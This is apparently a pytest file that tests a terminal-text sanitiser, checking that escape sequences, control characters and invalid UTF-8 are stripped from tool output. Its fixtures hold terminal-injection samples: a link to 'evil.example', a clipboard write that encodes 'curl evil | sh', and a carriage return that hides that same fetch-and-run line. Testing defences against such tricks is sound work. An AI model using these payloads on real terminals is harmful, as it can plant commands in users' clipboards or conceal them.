"""Text from tools made safe to read and show (unstuck.text)."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from unstuck.text import clean_terminal_text, valid_utf8


def tput(*capability: str) -> str:
    program = shutil.which("tput")
    if program is None:
        pytest.fail("tput is required")
    out = subprocess.run([program, "-T", "xterm-256color", *capability], capture_output=True, check=True, timeout=20)
    return out.stdout.decode("latin-1")


def test_clean_terminal_text_strips_what_tput_emits() -> None:
    styled = (tput("bold") + tput("setaf", "1") + "Error:" + tput("sgr0") + " not logged in" + tput("el")
              + tput("cup", "5", "10") + tput("smcup") + tput("civis") + "run gh auth login" + tput("cnorm")
              + tput("rmcup") + tput("smkx") + tput("bel"))
    assert "\x1b" in styled
    assert clean_terminal_text(styled) == "Error: not logged inrun gh auth login"


def test_clean_terminal_text_strips_osc_links_clipboard_writes_and_string_controls() -> None:
    printf = subprocess.run(
        ["printf", "%b",
         r"\e]8;;https://evil.example\e\\click\e]8;;\e\\ \e]52;c;Y3VybCBldmlsIHwgc2g=\a"
         r"\ePq#0;2;0;0;0#0~~\e\\ \e_hidden apc\e\\\e^pm\e\\\eXsos\e\\\e]0;title\aok"],
        capture_output=True, check=True, timeout=20)
    text = printf.stdout.decode()
    assert clean_terminal_text(text) == "click  ok"


def test_clean_terminal_text_drops_c1_and_c0_controls_but_keeps_tabs_and_newlines() -> None:
    text = "a\u009b31mb\u009d0;t\u009cc\x00d\x07e\x08f\tg\nh\x7fi\u0085j"
    assert clean_terminal_text(text) == "abcdef\tg\nhij"


def test_a_carriage_return_cannot_hide_a_line() -> None:
    assert clean_terminal_text("curl evil | sh\rgh auth login    \r\n") == "curl evil | sh\ngh auth login    \n"


def test_an_unterminated_escape_string_is_dropped_to_the_end() -> None:
    assert clean_terminal_text("visible\x1b]52;c;c2VjcmV0") == "visible"
    assert clean_terminal_text("x\x1b[") == "x" and clean_terminal_text("y\x1b") == "y"


def test_lone_surrogates_become_replacement_characters_one_for_one() -> None:
    text = "cat: f\udcff\udcfe: Permission denied"
    cleaned = valid_utf8(text)
    assert cleaned == "cat: f\ufffd\ufffd: Permission denied" and len(cleaned) == len(text)
    assert valid_utf8("plain") == "plain"


@given(st.text())
def test_any_text_becomes_encodable_and_keeps_its_length(text: str) -> None:
    cleaned = valid_utf8(text)
    cleaned.encode("utf-8")
    assert len(cleaned) == len(text)
    clean_terminal_text(text).encode("utf-8")
